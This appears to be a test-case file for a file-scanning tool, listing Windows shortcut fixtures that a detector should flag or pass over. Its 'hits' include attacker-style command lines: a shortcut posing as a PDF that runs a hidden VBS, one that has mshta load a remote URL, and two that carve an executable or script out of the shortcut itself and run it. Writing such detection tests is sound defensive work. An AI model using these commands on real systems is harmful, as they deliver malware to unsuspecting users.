// Shortcuts, with what is written in them.
import type { FileFacts } from '../../../src/file/facts.ts'
import { parseLnk } from '../../../src/file/formats/lnk/parse.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'
import type { FactCases } from './case.ts'

const shortcut = (name: string, target: string, given: string): Partial<FileFacts> => ({
  name,
  lnk: {
    ...parseLnk(Buffer.alloc(0)).value,
    target,
    arguments: given,
    appendedBytes: 0,
    command: readScript(`${target} ${given}`, 'batch').facts,
  },
})
const CMD = 'C:\\Windows\\System32\\cmd.exe'

export const SHORTCUTS: FactCases = {
  shortcut_poses_as_document: {
    hits: {
      'a script beside it': shortcut('Invoice.pdf.lnk', CMD, '/c start /b wscript.exe data\\n.vbs'),
      'a page of its server': shortcut(
        'Photo.jpg  .lnk',
        'C:\\Windows\\System32\\mshta.exe',
        'https://files.example/a',
      ),
    },
    misses: {
      'the shortcut that the system makes': shortcut('Report.docx.lnk', 'C:\\Users\\a\\Report.docx', ''),
      'a console of developers': shortcut('Developer Prompt.lnk', CMD, '/k "C:\\tools\\vars.bat"'),
      'a document that is opened by a console': shortcut('Manual.pdf.lnk', CMD, '/c start "" "C:\\docs\\Manual.pdf"'),
    },
  },
  shortcut_reads_itself: {
    hits: {
      'bytes of itself': shortcut(
        'Plan.lnk',
        CMD,
        "/c powershell $a=gc .\\*.lnk -enc byte;[io.file]::writeallbytes('a.exe',$a[3000..9000])",
      ),
      'lines of itself': shortcut('Plan.lnk', CMD, '/c findstr /b "XX" Plan.lnk > %tmp%\\a.js & %tmp%\\a.js'),
    },
    misses: {
      'another file': shortcut('Search.lnk', CMD, '/k findstr /s "error" C:\\logs\\*.log'),
      'a list of shortcuts': shortcut('List.lnk', CMD, '/k dir %USERPROFILE%\\Desktop\\*.lnk'),
    },
  },
}
